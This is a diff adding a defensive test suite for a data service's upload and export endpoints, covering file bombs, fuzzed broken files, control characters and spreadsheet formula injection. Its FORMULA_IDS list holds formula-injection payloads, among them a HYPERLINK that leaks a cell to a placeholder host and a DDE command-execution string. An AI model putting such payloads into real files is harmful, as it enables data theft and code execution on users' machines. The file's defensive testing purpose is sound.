@@ -1,0 +1,183 @@
+"""Uploads and exports tried as an attacker would: bombs refused clearly (413/422), broken files
+answered in the error envelope, formulas exported as text, control characters refused."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pandas as pd
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+
+from tests.data import bombs
+from tests.service.support import AUTH, TestClient
+from tests.service.web.conftest import csv_bytes
+
+UPLOAD = "/v1/prioritize/upload"
+EXPORT = "/v1/lists/export"
+OPTIONS = json.dumps({"capacity": 5})
+FORMULA_IDS = ['=HYPERLINK("http://x/?leak="&B2,"click")', "=cmd|' /C calc'!A0", "+1", "@SUM(A1)"]
+
+
+def _upload(client: TestClient, content: bytes, filename: str) -> Any:
+    return client.post(
+        UPLOAD, files={"file": (filename, content)}, data={"options": OPTIONS}, headers=AUTH
+    )
+
+
+def _envelope(response: Any) -> dict[str, Any]:
+    assert response.headers["content-type"].startswith("application/json"), response.text[:200]
+    body: dict[str, Any] = response.json()
+    assert {"error", "message", "problems"} <= set(body)
+    return body
+
+
+@pytest.mark.parametrize(
+    ("name", "build", "status", "error"),
+    [
+        ("far.xlsx", bombs.xlsx_far_cell, 413, "too_many_rows"),
+        ("far2.xlsx", bombs.xlsx_far_cell_undeclared, 413, "too_many_rows"),
+        ("gr20000.xlsx", bombs.xlsx_gr20000, 422, "invalid_file"),
+        ("string.xlsx", bombs.xlsx_huge_shared_string, 413, "text_too_long"),
+        ("strings.xlsx", bombs.xlsx_many_strings, 413, "too_many_strings"),
+        ("entities.xlsx", bombs.xlsx_entities, 422, "unreadable_file"),
+        ("truncated.xlsx", bombs.xlsx_truncated_xml, 422, "unreadable_file"),
+        ("rows.parquet", bombs.parquet_rows, 413, "too_many_rows"),
+        ("struct.parquet", bombs.parquet_struct, 422, "unreadable_file"),
+        ("rows.csv", bombs.csv_rows, 413, "too_many_rows"),
+        ("wide.csv", bombs.csv_wide, 413, "too_many_columns"),
+    ],
+)
+def test_each_bomb_gets_a_clear_refusal_in_the_envelope(  # noqa: PLR0917
+    client: TestClient,
+    tmp_path: Path,
+    name: str,
+    build: Callable[[Path], Path],
+    status: int,
+    error: str,
+) -> None:
+    response = _upload(client, build(tmp_path / name).read_bytes(), name)
+
+    assert response.status_code == status
+    body = _envelope(response)
+    assert body["error"] == error
+    assert "\n" not in body["message"]
+
+
+def _broken(kind: str, content: bytes, cut: int, flips: list[tuple[int, int]]) -> bytes:
+    """A valid file of `kind`, cut short and with some bytes replaced."""
+    data = bytearray(content[: max(1, cut % (len(content) + 1))])
+    for position, value in flips:
+        if data:
+            data[position % len(data)] = value
+    return bytes(data)
+
+
+@pytest.fixture(scope="module")
+def valid_files(
+    candidate_frame: pd.DataFrame, tmp_path_factory: pytest.TempPathFactory
+) -> dict[str, bytes]:
+    folder = tmp_path_factory.mktemp("fuzz")
+    frame = candidate_frame.head(8)
+    return {kind: csv_bytes(frame, folder, f"k.{kind}") for kind in ("csv", "xlsx", "parquet")}
+
+
+@settings(
+    max_examples=60,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(
+    kind=st.sampled_from(["csv", "xlsx", "parquet"]),
+    cut=st.integers(min_value=0),
+    flips=st.lists(st.tuples(st.integers(0), st.integers(0, 255)), max_size=6),
+)
+def test_broken_files_always_answer_in_the_envelope(
+    client: TestClient,
+    valid_files: dict[str, bytes],
+    kind: str,
+    cut: int,
+    flips: list[tuple[int, int]],
+) -> None:
+    content = _broken(kind, valid_files[kind], cut, flips)
+
+    response = _upload(client, content, f"broken.{kind}")
+
+    if response.status_code != 200:  # a flip can leave a valid file
+        assert 400 <= response.status_code < 500, response.text[:300]
+        _envelope(response)
+
+
+def _list_with_ids(
+    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path, ids: list[str]
+) -> dict[str, Any]:
+    frame = candidate_frame.head(len(ids) + 6).copy()
+    frame["digital_status"] = "offline"
+    frame.loc[frame.index[: len(ids)], "msme_id"] = ids
+    # As .xlsx: a CSV written by write_table would already carry the quotes.
+    response = _upload(client, csv_bytes(frame, tmp_path, "k.xlsx"), "kandidat.xlsx")
+    assert response.status_code == 200, response.text[:500]
+    body: dict[str, Any] = response.json()
+    return body
+
+
+def test_exports_write_formula_ids_as_text(
+    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
+) -> None:
+    listed = _list_with_ids(client, candidate_frame, tmp_path, FORMULA_IDS)
+
+    xlsx = client.post(EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH)
+    workbook = load_workbook(io.BytesIO(xlsx.content))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    written = [cell for cell in cells if cell.value in FORMULA_IDS]
+    assert len(written) == len(FORMULA_IDS)
+    assert {cell.data_type for cell in written} == {"s"}
+    assert not [cell for cell in cells if cell.data_type == "f"]
+
+    ids = []
+    for part in ("selected", "not_selected"):
+        text = client.post(
+            EXPORT, params={"format": "csv", "part": part}, json=listed, headers=AUTH
+        ).content.decode("utf-8-sig")
+        rows = list(csv.reader(io.StringIO(text)))
+        ids += [row[1] if part == "selected" else row[0] for row in rows[1:]]
+        numbers = [row[7] if part == "selected" else row[6] for row in rows[1:]]
+        assert all(not value.startswith("'") for value in numbers)  # -1.5 stays a number
+    assert sorted(value for value in ids if value.startswith("'")) == sorted(
+        "'" + value for value in FORMULA_IDS
+    )
+
+
+def test_an_export_of_an_id_with_a_control_character_is_refused_without_echo(
+    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
+) -> None:
+    listed = _list_with_ids(client, candidate_frame, tmp_path, ["SECRET-1"])
+    listed["selected"][0]["msme_id"] = "SECRET\x01\x0b"
+
+    response = client.post(EXPORT, params={"format": "xlsx"}, json=listed, headers=AUTH)
+
+    assert response.status_code == 422
+    body = _envelope(response)
+    assert [problem["field"] for problem in body["problems"]] == ["selected.0.msme_id"]
+    assert "SECRET" not in response.text
+
+
+def test_an_upload_with_a_tab_before_a_formula_is_refused_by_row_and_column(
+    client: TestClient, candidate_frame: pd.DataFrame, tmp_path: Path
+) -> None:
+    frame = candidate_frame.head(5).copy()
+    frame.loc[frame.index[2], "msme_id"] = "\t=2+3"
+
+    response = _upload(client, csv_bytes(frame, tmp_path), "kandidat.csv")
+
+    assert response.status_code == 422
+    problems = _envelope(response)["problems"]
+    assert [(p["row"], p["column"]) for p in problems] == [(4, "msme_id")]
+    assert "control" in problems[0]["reason"] or "kontrol" in problems[0]["reason"]
